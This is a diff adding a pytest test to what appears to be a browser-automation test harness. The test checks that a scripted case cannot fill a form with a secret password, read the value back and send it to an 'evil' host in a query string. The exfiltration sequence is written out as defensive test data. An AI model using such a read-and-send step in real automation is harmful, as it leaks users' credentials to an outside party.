@@ -178,6 +178,29 @@ async def test_a_case_cannot_find_it_out_by_comparing(
     assert "/begins-with-o" not in [path for path, _ in site.heard]
 
 
+@pytest.mark.parametrize("read", [{"value": "read"}, {"value": "read", "match": "^(?:open ses)"}])
+async def test_a_case_cannot_read_it_back_and_send_it(
+    harness: ExecutionHarness, site: Site, evil: Evil, read: dict[str, str]
+) -> None:
+    """From the field of a named host into a variable; the operator's own runs may."""
+    steps = (
+        goto("/form"),
+        on("fill", "#f", value="${secret.PASSWORD}"),
+        on("extract", "#f", **read),
+        goto(evil.url + "/?${var.read}"),
+    )
+    written = case(*steps, base_url=site.url)
+    result = await harness.test(written)
+    assert (result.error, result.error_kind) == (
+        "step 3: what the step reads contains a secret, which a later step could send anywhere: only "
+        "`qa-queue run FILE` may read it",
+        ErrorKind.INPUT,
+    )
+    assert not evil.has_secret()
+    trusted = await harness.run(harness.submit(written, trusted=True))
+    assert trusted.status == "completed"
+
+
 def fill_of(action: str) -> Step:
     return on(action, "#f", value=SECRET)
 
